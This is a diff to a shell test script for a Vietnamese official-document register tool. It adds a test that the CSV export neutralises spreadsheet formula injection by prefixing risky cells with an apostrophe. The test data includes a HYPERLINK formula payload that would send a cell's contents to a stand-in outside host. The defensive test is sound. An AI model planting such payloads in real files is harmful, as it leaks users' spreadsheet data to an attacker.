@@ -228,6 +228,18 @@ assert rows[2][5] == 'Công văn: Về việc gửi, nhận văn bản điện t
 assert len(rows) == 4
 PY
 ok "CSV export reads back with the ND30 incoming columns in order" $?
+cp "$tmp/register.sqlite" "$tmp/inj.sqlite"
+"$V" -d "$tmp/inj.sqlite" assign den/2026/2 --notes '=HYPERLINK("http://x.example/?"&A1,"Mở")' >/dev/null 2>&1 &&
+	"$V" -d "$tmp/inj.sqlite" assign den/2026/3 --notes '-2+3' >/dev/null 2>&1 &&
+	"$V" -d "$tmp/inj.sqlite" export --book den --year 2026 --format csv -o "$tmp/inj.csv" >/dev/null 2>&1
+python3 - "$tmp/inj.csv" <<'PY'
+import csv, sys
+rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))
+assert rows[2][9] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"Mở\")", rows[2][9]
+assert rows[3][9] == "'-2+3", rows[3][9]
+assert rows[1][9] == "Nhận 2 lần", rows[1][9]
+PY
+ok "a CSV cell a spreadsheet would read as a formula is written after an apostrophe, as text" $?
 
 # 9: export XLSX, unzipped and read
 vt export --book den --year 2026 --format xlsx -o "$tmp/den.xlsx" >"$tmp/act" 2>&1
